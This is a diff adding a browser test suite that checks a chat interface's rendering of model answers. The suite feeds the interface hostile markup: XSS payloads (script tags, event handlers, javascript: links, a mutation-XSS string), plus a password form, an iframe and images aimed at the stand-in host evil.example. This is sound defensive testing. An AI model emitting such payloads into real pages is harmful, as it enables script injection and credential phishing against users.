@@ -1,0 +1,76 @@
+import type { Request } from 'playwright-core';
+import { useBrowser } from '../support/browser.js';
+import { Cluster } from '../support/cluster.js';
+import type { Product } from '../support/product.js';
+import { ChatPage } from './chat-page.js';
+
+const HOSTILE = [
+  'Before.',
+  '<script>window.harmed = "script"</script>',
+  'Inline <img src=x onerror="window.harmed = \'img\'"> and <svg onload="window.harmed = \'svg\'"></svg> and <b onclick="window.harmed = 1">bold</b>.',
+  '[a link](javascript:window.harmed="link") [data](data:text/html,<script>parent.harmed=1</script>) [coded](&#106;avascript:window.harmed=2) <javascript:window.harmed=3>',
+  '![an image](https://evil.example/pixel.png) ![another](http://evil.example/a.svg "title")',
+  '<iframe src="https://evil.example/frame"></iframe>',
+  '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
+  '<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/">',
+  '<div id="root" class="composer" style="position:fixed;inset:0">cover</div>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.harmed=4&gt;">',
+  '[good](https://example.org/page) and bare https://example.org/bare',
+  `| ${Array.from({ length: 60 }, (_, index) => `head ${index}`).join(' | ')} |`,
+].join('\n\n');
+const TABLE = [
+  `|${' --- |'.repeat(60)}`,
+  ...Array.from({ length: 80 }, () => `|${' <img src=y onerror="window.harmed=5"> |'.repeat(60)}`),
+].join('\n');
+
+const browser = useBrowser();
+let cluster: Cluster;
+let product: Product;
+
+beforeAll(async () => {
+  cluster = await Cluster.start();
+  product = await cluster.all();
+});
+afterAll(() => cluster.stop());
+
+test('nothing that a model writes runs, loads, or leads anywhere but to a web page', async () => {
+  const requests: Request[] = [];
+  const page = await browser.newPage();
+  page.context().on('request', (request) => requests.push(request));
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  const chat = await ChatPage.open(page, product.url);
+  cluster.ollama.script({ text: `${HOSTILE}\n${TABLE}\n\nThe very end.` });
+  await chat.ask('Harm me.');
+  await chat.hasAnswer('complete');
+  await chat.shows('The very end.');
+
+  const answer = chat.answers.last();
+  // What was clicked would have run by the time the next evaluation has been answered.
+  for (const link of await answer.getByText(/a link|data|coded|bold/).all()) await link.click();
+  expect(await page.evaluate('window.harmed')).toBeUndefined();
+  expect(dialogs).toEqual([]);
+  expect(await answer.locator('.block :is(img, script, svg, style, iframe, form, input, button, link, base, math)').count()).toBe(0);
+  expect(await answer.locator('.block :is([onerror], [onclick], [onload], [style], [class], [id])').count()).toBe(0);
+  const targets = await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
+  expect(targets.length).toBeGreaterThanOrEqual(4);
+  expect(targets.filter((target) => !/^https?:/.test(String(target)))).toEqual([]);
+  const elsewhere = requests.map((request) => new URL(request.url())).filter(({ origin }) => origin !== product.url);
+  expect(elsewhere).toEqual([]);
+  // It is wide and stays within the answer.
+  expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
+  expect(await chat.composer.isVisible()).toBe(true);
+});
+
+test('what a person writes is shown as it was written', async () => {
+  const chat = await ChatPage.open(await browser.newPage(), product.url);
+  const text = '<img src=x onerror="window.harmed = 1"> **not bold** [no](https://example.org)';
+  await chat.ask(text);
+  await chat.hasAnswer('complete');
+  expect(await chat.questions.locator('.bubble').textContent()).toBe(text);
+  expect(await chat.questions.locator('img, a, strong').count()).toBe(0);
+  expect(await chat.page.evaluate('window.harmed')).toBeUndefined();
+});
